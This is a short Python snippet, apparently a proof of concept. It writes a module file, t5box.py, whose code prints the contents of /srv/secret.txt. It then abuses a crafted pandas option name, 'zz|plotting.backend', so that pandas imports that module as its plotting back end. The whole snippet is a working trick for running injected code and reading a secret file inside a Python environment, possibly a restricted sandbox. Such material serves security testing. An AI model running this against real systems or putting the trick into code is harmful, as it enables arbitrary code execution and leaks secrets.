# reaches: the name of an option is a pattern that imports a module as pandas' back end
import pandas as pd
open('t5box.py', 'w').write("print(open('/srv/secret.txt').read())")
pd.options.display.d['zz|plotting.backend'] = 0
try:
    setattr(pd.options.display, 'zz|plotting.backend', 't5box')
except ValueError:
    pass
